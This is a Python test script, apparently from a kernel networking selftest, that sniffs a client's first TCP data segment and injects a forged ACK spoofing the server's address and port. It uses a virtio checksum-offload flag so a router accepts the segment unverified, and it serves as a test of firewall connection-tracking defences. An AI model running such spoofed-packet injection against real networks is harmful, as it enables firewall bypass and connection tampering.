#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""An acknowledgement forged on the client's side of a router: the server's
address and port acknowledging the client's first data, sent from the
client's link, as an attacker there could.

  ackforge.py IFACE SERVER PORT GO

Waits on IFACE for the first TCP segment with data sent to SERVER:PORT,
then for the file GO to exist (the caller's sign that the firewall holds
the flow as it wants it), then sends, on IFACE to the router (the segment's next hop), a segment from
SERVER:PORT back to its sender with ACK set and an acknowledgement number
just past that data, its TCP checksum left to be filled in, which the
router trusts as it trusts one a NIC verified. Prints "forged ACK" and the
number, or exits 1 when no such segment came within 10 s or GO within 60.
"""
import os
import socket
import struct
import sys
import time

from inet import csum

SOL_PACKET = 263
PACKET_VNET_HDR = 15
VIRTIO_NET_HDR_F_NEEDS_CSUM = 1
ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ACK = 0x10


def main():
    iface, server, port = sys.argv[1], socket.inet_aton(sys.argv[2]), int(sys.argv[3])
    go = sys.argv[4]
    # All protocols: only such a socket sees the frames this host sends.
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    rx.bind((iface, 0))
    rx.settimeout(0.5)
    end = time.time() + 10
    while time.time() < end:
        try:
            frame = rx.recv(65535)
        except socket.timeout:
            continue
        if len(frame) < 54 or frame[12:14] != struct.pack("!H", ETH_P_IP):
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != socket.IPPROTO_TCP or ip[16:20] != server:
            continue
        tcp = ip[ihl:]
        sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
        doff = (tcp[12] >> 4) * 4
        total = struct.unpack("!H", ip[2:4])[0]
        length = total - ihl - doff
        if dport != port or length <= 0:
            continue
        client = ip[12:16]
        forged_ack = (seq + length) & 0xFFFFFFFF
        th = struct.pack("!HHIIBBHHH", port, sport, ack, forged_ack, 5 << 4, ACK, 65535, 0, 0)
        pseudo = server + client + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(th))
        # To be filled in: the pseudo-header's sum, as a local stack leaves it.
        th = th[:16] + struct.pack("!H", ~csum(pseudo) & 0xFFFF) + th[18:]
        ih = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(th), 0x4242, 0, 64,
                         socket.IPPROTO_TCP, 0, server, client)
        ih = ih[:10] + struct.pack("!H", csum(ih)) + ih[12:]
        # To the router, as the client's own frames go, with its TCP
        # checksum to be filled in (virtio_net_hdr NEEDS_CSUM): as veth
        # carries a local stack's segments, and as the router takes one a
        # NIC verified, not to be checked again.
        end = time.time() + 60
        while not os.path.exists(go):
            if time.time() > end:
                return 1
            time.sleep(0.05)
        tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        tx.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        tx.bind((iface, 0))
        vnet = struct.pack("<BBHHHH", VIRTIO_NET_HDR_F_NEEDS_CSUM, 0, 0, 0, 14 + 20, 16)
        tx.send(vnet + frame[0:12] + struct.pack("!H", ETH_P_IP) + ih + th)
        print("forged ACK %d" % forged_ack)
        return 0
    return 1


if __name__ == "__main__":
    sys.exit(main())
